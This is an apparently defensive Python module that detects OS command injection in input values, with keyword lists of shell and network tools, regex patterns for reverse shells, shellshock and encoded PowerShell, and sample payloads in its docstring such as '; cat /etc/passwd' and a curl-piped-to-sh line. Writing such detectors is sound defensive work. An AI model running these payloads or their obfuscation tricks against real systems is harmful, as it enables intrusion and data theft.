"""OS command injection: does this value start a command if a shell reads it?

A shell runs a second command after a separator (``;`` ``|`` ``||`` ``&`` ``&&`` a newline) or
inside a substitution (``$(...)``, a backtick pair). The detector finds each of these, reads the
word after it as a shell would (quotes, backslashes and empty expansions removed, so ``c'a't``,
``c\\at`` and ``ca$@t`` read ``cat``; a path such as ``/bin/cat`` reads ``cat``) and asks
whether it is a command:

* commands that have no other reading (``whoami``, ``wget``, ``nc``, ``powershell``...) count
  after any separator;
* commands that are also ordinary words (``cat``, ``id``, ``more``, ``type``...) count only with
  a shell-like argument (``-la``, ``/etc``, ``$HOME``, ``c:\\``) or, for a few, at the very end.

Numeric character references (``&#261;``, ``&#x5ea7;``) are read as the one character they stand
for: a browser sends every character its form's charset cannot hold that way (``Wągrowiec``
arrives as ``W&#261;growiec`` from a Latin-1 form), so their ``&`` and ``;`` are no separators
(and ``x&#59;id``, decoded, still reads ``x;id``).

Alongside: ``${IFS}``, shellshock's ``() {``, ``/dev/tcp/`` reverse shells, ``cmd /c``. So
``rock & roll``, ``Tom & Jerry``, ``R&D; id card``, ``cats | dogs`` and Markdown such as
``Run `ls -la` to list`` stay clean, while ``; cat /etc/passwd``, ``| id``, ``$(whoami)`` and
``&& c'u'rl http://x/s | sh`` do not.
"""

from __future__ import annotations

import re
import sys

from vigil.signatures.detection import Attack, Detection, excerpt
from vigil.signatures.patterns import Pattern

MAX_SCAN = 16384
"""Characters of a value that are inspected (from the start)."""

STRONG = frozenset({
    "whoami", "uname", "ifconfig", "ipconfig", "netstat", "wget", "curl", "nc", "ncat", "netcat",
    "socat", "bash", "sh", "zsh", "ksh", "csh", "tcsh", "busybox", "python", "python2", "python3",
    "perl", "ruby", "php", "lua", "nmap", "telnet", "nslookup", "chmod", "chown", "chgrp",
    "mkfifo", "mknod", "xxd", "base64", "printenv", "passwd", "useradd", "usermod", "crontab",
    "pkill", "killall", "systemctl", "sudo", "tftp", "xterm", "gcc", "powershell", "pwsh", "cmd",
    "netsh", "systeminfo", "tasklist", "taskkill", "certutil", "bitsadmin", "wmic", "rundll32",
    "regsvr32", "mshta", "cscript", "wscript", "schtasks", "hostname", "uptime", "lsof", "getent",
    "traceroute", "tracert", "nohup", "setsid", "gawk", "openssl",
})  # fmt: skip
"""Commands taken as commands after any separator."""
WEAK = frozenset({
    "cat", "ls", "echo", "rm", "kill", "type", "dir", "del", "copy", "more", "less", "head",
    "tail", "find", "sort", "id", "ps", "env", "host", "tar", "start", "touch", "sed", "grep",
    "cp", "mv", "mkdir", "rmdir", "chdir", "cd", "pwd", "set", "w", "who", "last", "df", "du",
    "file", "strings", "unzip", "zip", "tee", "nl", "od", "diff", "make", "java", "node", "which",
    "whereis", "locate", "sleep", "ping", "net", "route", "reg", "exec", "eval", "timeout", "su",
    "dash", "dig", "awk", "arp",
})  # fmt: skip
"""Commands that are also plain words: they need a shell-like argument."""
ALONE = frozenset({"id", "ls", "ps", "pwd", "env", "w", "who", "set", "dir", "whoami", "uname"})
"""Commands that count at the very end of a value with no argument (``;id``)."""

_SEPARATOR = Pattern(r"^|;|\|\|?|&&?|\n|\r|\$\(|`|<\(|>\(|\{")
_WORD = Pattern(r"[\s\"'{,]{0,64}([\w./\\\-+\"'$@{}]{1,256})")
_STRIP = Pattern(r"\$\{[^}]{0,64}\}|\$[@*?\d]|[\"'\\{}]")
_REFERENCE = Pattern(r"&#(?:([0-9]{1,7})|[xX]([0-9a-fA-F]{1,6}));")
MAX_SEPARATORS = 256
"""Separators and substitutions examined in one value."""
WINDOW = 512
"""Characters read after a separator: the command word and the start of its arguments."""
_ARGUMENT = Pattern(
    "(?i)"
    + r"(?:\s|\$\{IFS\}|\$IFS|\+|<|,)+([-/~$.\\%]|[a-z]:[\\/]|[0-9]+\s*(?:[;|&`)]|$)|\d{1,3}\.\d{1,3}\.|\S*[/\\])"
)
_ALWAYS = Pattern(
    "(?i)"
    + r"\$\{IFS\}|\$IFS\$|\(\)\s*\{[^}]{0,64}\};|/dev/(?:tcp|udp)/|\bcmd(?:\.exe)?\s*/[ck]\b|"
    r"%(?:comspec|systemroot|windir)%|\bpowershell(?:\.exe)?\s+-(?:e|enc|encodedcommand|c|command|nop)\b"
)
ROUTE = (
    r"[;|&`\n\r]|\$[({]|\$IFS|\(\)\s*\{|/dev/(?:tcp|udp)/|\bcmd(?:\.exe)?\s*/|[<>]\("
    r"|%(?:comspec|systemroot|windir)%|powershell|\{,|\{\s*[a-z/$']+,"
    r"|\A[\s\"'{\\]*(?:" + "|".join(sorted(STRONG | WEAK)) + r")\b"
    r"|\A[\s\"'{\\]*[a-z]+['\"\\$]+[a-z]|\A[\s\"']*/(?:usr/)?s?bin/"
)
"""RE2 pattern (case-insensitive) that every value this detector can flag matches."""


def _command_name(raw: str) -> str:
    """The command a shell would run for ``raw``: quotes and empty expansions removed, the
    directory dropped when it is a ``bin`` directory (``/usr/bin/cat`` is ``cat``, while
    ``../etc/passwd`` is no command)."""
    word = _STRIP.sub("", raw).lower().replace("\\", "/")
    folder, _, name = word.rpartition("/")
    if folder and not folder.endswith(("bin", "system32")):
        return ""
    return name.removesuffix(".exe")


def _after(value: str, pos: int, substitution: bool) -> tuple[str, int] | None:
    window = value[pos : pos + WINDOW]
    word = _WORD.match(window)
    if word is None or not word.group(1):
        return None
    name = _command_name(word.group(1))
    end = word.end()
    rest = window[end:]
    if name in STRONG and (pos > 0 or not rest.strip() or _ARGUMENT.match(rest)):
        return name, end
    if name not in WEAK and name not in ALONE:
        return None
    stripped = rest.strip()
    if not stripped or stripped[0] in ";|&`)\n":
        return (name, end) if name in ALONE or substitution else None
    if _ARGUMENT.match(rest) is not None:
        return name, end
    return None


def _character(match: re.Match[str]) -> str:
    decimal, hexadecimal = match.groups()
    code = int(decimal) if decimal is not None else int(hexadecimal, 16)
    return chr(code) if 0 < code <= sys.maxunicode and not 0xD800 <= code <= 0xDFFF else "\ufffd"


def with_references_decoded(value: str) -> str:
    """``value`` with its numeric character references replaced by their characters."""
    if "&#" not in value:
        return value
    parts: list[str] = []
    last = 0
    for match in _REFERENCE.finditer(value):
        parts += [value[last : match.start()], _character(match)]
        last = match.end()
    return "".join(parts) + value[last:] if parts else value


def detect_command(text: str) -> Detection | None:
    """A :class:`Detection` when ``text`` would run a command if a shell read it."""
    value = with_references_decoded(text[:MAX_SCAN])
    always = _ALWAYS.search(value)
    if always is not None:
        return Detection(Attack.COMMAND, "shell construct", excerpt(value, always.start()))
    for count, sep in enumerate(_SEPARATOR.finditer(value)):
        if count >= MAX_SEPARATORS:
            break
        mark = sep.group()
        start = sep.start()
        substitution = mark in {"$(", "`", "<(", ">("}
        if (
            mark == "`"
            and start > 0
            and not (value[start - 1] in "=;|&('\"" or value[start - 1].isalnum())
        ):
            continue
        found = _after(value, sep.end(), substitution)
        if found is not None:
            name, _ = found
            if not mark:
                kind = "value starts with"
            elif substitution:
                kind = "substitution"
            else:
                kind = f"{mark.strip() or 'newline'!r} then"
            return Detection(Attack.COMMAND, f"{kind} command {name}", excerpt(value, start))
    return None
